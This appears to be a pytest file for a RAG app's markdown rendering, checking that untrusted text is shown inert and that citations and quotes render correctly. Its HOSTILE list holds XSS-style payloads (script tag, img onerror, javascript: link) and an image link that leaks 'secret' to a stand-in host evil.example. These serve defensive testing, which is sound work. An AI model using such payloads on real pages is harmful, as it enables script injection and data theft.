import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag_app.rendering import answer_markdown, inert, marked_html

HOSTILE = [
    "<script>alert(1)</script>",
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "https://evil.example/steal?x=1 www.evil.example",
    "`code` **bold** # heading\n# heading\n- list\n1. item\n> quote\n| a | b |\n|---|---|",
    "$$\\LaTeX$$ :red[text] :material/home: ~~gone~~",
    "    indented code",
    "&lt;b&gt; &#60;i&#62;",
    "<!-- hidden -->",
    "ana@evil.example :material/home: :smile:",
]


def rendered(markdown: str) -> str:
    return MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(markdown)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_does_nothing(text: str):
    html = rendered(inert(text))
    for tag in (
        "<script",
        "<img",
        "<a ",
        "<code",
        "<strong",
        "<h1",
        "<li",
        "<table",
        "<s>",
        "<!--",
    ):
        assert tag not in html
    assert not re.search(r"\w@|:[\w/+-]+:", html)  # what Streamlit makes links and icons of


@settings(deadline=None)  # the first example pays for imports
@given(st.text(alphabet="ab<>[]()!*_`#$:|~-+.\\&;=/ \n", max_size=60))
def test_what_is_shown_is_what_was_written(text: str):
    from html.parser import HTMLParser

    shown: list[str] = []
    parser = HTMLParser(convert_charrefs=True)
    parser.handle_data = shown.append  # type: ignore[method-assign]
    parser.feed(rendered(inert(text)))
    parser.close()
    said = "".join("".join(shown).split()).replace("\u200b", "")  # breaks inside of addresses
    assert said == "".join(text.split())


def test_citation_numbers_stand_out():
    assert "<strong>[1]</strong>" in rendered(answer_markdown("It rained. [1]"))


def test_the_quote_is_marked_and_all_else_escaped():
    page = "before <b>quote</b> after"
    html = marked_html(page, 7, 19)
    assert '<mark id="quote">&lt;b&gt;quote&lt;/b&gt;</mark>' in html
    assert "<b>" not in html


def test_notes_stand_behind_their_sentences_and_numbers():
    text = "It is 3 [1][2]. It is *4*.\n\n“Quote” [3]"
    shown = answer_markdown(text, [("It is *4*.", ":orange-badge[no]")])
    assert shown == (
        "It is 3 **\\[1\\]** **\\[2\\]**. It is \\*4\\*. :orange-badge[no] \n\n“Quote” **\\[3\\]**"
    )
    numbered = answer_markdown("One [1]. Two [2].", [("One.", "A"), ("Two.", "B")])
    assert numbered == "One **\\[1\\]**. A Two **\\[2\\]**. B"


def test_the_lines_of_an_answer_stay_lines():
    assert answer_markdown("Two files.\n- a.md [1]\n- b.md [2]") == (
        "Two files\\.  \n\\- a\\.md **\\[1\\]**  \n\\- b\\.md **\\[2\\]**"
    ).replace("\\.", ".")


def test_a_note_on_a_sentence_that_is_not_found_stands_at_the_end():
    assert answer_markdown("One.", [("Another.", "A")]) == "One. A"


# What Streamlit makes other signs of where white space stands on both sides, or nothing.
MADE_OTHER = re.compile(r"(?:^|\s)(?:<->|->|<-|--|>=|<=|~=)(?=\s|$)")


def test_signs_that_stand_alone_stay_as_they_are():
    for sign in ("<->", "->", "<-", "--", ">=", "<=", "~="):
        shown = rendered(inert(f"a {sign} b")).replace("&lt;", "<").replace("&gt;", ">")
        assert "\u200b" in shown
        assert not MADE_OTHER.search(shown), sign


def test_a_command_that_an_error_names_can_be_copied():
    said = "Run: python -m ingest --repair papers --index=old-notes"
    assert f"<p>{said}</p>" in rendered(inert(said))
